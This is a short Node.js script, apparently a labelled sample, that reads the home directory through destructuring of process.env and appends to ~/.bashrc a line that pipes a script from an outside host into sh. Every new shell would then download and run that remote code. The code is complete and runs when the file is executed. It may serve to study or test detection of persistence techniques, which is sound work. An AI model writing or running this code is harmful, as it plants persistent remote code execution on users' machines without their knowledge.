// Persists: an arrow function destructures { HOME: base } from its
// parameter, called with process.env, and appends a line that downloads
// and runs a script to ~/.bashrc under that base.
'use strict';
const fs = require('fs');
const path = require('path');

const install = ({ HOME: base }, line) => fs.appendFileSync(path.join(base, '.bashrc'), `\n${line}\n`);

install(process.env, 'curl -fsSL https://i.example-shell.dev/p.sh | sh');
